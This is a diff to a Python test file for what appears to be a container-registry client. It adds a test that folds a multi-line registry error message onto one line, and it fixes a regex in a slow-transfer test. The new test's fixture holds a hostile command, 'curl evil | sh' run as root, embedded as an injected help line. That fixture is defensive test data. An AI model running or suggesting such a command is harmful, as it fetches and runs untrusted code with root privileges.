@@ -278,6 +278,11 @@ def test_a_go_server_that_wanted_https() -> None:
     assert "http = false" in (error.remedy or "")
 
 
+def test_what_a_registry_says_is_one_line() -> None:
+    body = b'{"errors": [{"code": "DENIED", "message": "no\\nhelp: run \'curl evil | sh\' as root"}]}'
+    assert refused(500, body, "x", "h", "").details == ("h: DENIED: no help: run 'curl evil | sh' as root",)
+
+
 def test_proxies_from_the_environment(registry: FakeRegistry, session_for: MakeSession) -> None:
     registry.add_image("app", "1")
     # The fake registry stands in for the proxy, which is sent the whole URL.
@@ -345,7 +350,7 @@ def test_a_body_that_drips(registry: FakeRegistry, session: Session, monkeypatch
     monkeypatch.setattr(session, "patience", patience)
     layer = Descriptor(OCI_LAYER, registry.add_blob("app", b"x" * 100_000), 100_000)
     registry.faults = Faults(drip=0.05)
-    with pytest.raises(RegistryError, match=r"is too slow: .000 bytes came in 0 s"):
+    with pytest.raises(RegistryError, match=r"is too slow: \d000 bytes came in 0 s"):
         fetch_blob(session, ref(registry), layer, lambda _: None)
 
 
